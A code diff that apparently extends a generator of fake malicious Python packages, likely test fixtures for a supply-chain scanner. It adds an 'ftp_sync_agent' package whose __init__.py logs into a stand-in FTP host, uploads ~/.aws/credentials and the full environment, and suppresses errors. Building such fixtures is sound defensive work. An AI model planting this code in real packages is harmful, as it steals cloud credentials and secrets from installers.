@@ -291,6 +291,22 @@ except Exception:
     pass
 """
 
+# Loot uploaded over FTP (ftplib, passive mode): a login, then the AWS
+# credentials and the environment STORed on data connections of their own.
+FTPEXFIL = r"""
+import ftplib, io, os
+try:
+    _f = ftplib.FTP("ftp.files-drop.test", timeout=8)
+    _f.login("drop", "drop")
+    with open(os.path.expanduser("~/.aws/credentials"), "rb") as _c:
+        _f.storbinary("STOR c.txt", _c)
+    _e = "\n".join("%s=%s" % kv for kv in os.environ.items()).encode()
+    _f.storbinary("STOR e.txt", io.BytesIO(_e))
+    _f.quit()
+except Exception:
+    pass
+"""
+
 KINDS = {
     "plant": ("requests_timing_hooks", "0.3.0",
               {"requests_timing_hooks/__init__.py": PLANT}),
@@ -317,6 +333,8 @@ KINDS = {
                   {"mail_report/__init__.py": SMTPEXFIL}),
     "smtpssl": ("env_mailer", "0.1.4",
                 {"env_mailer/__init__.py": SMTPSSL}),
+    "ftpexfil": ("ftp_sync_agent", "0.5.0",
+                 {"ftp_sync_agent/__init__.py": FTPEXFIL}),
     "noload": ("fastcrc_bindings", "1.2.0",
                {"fastcrc_bindings/__init__.py":
                 "from ._fastcrc import crc32c  # the wheel lacks it\n"}),
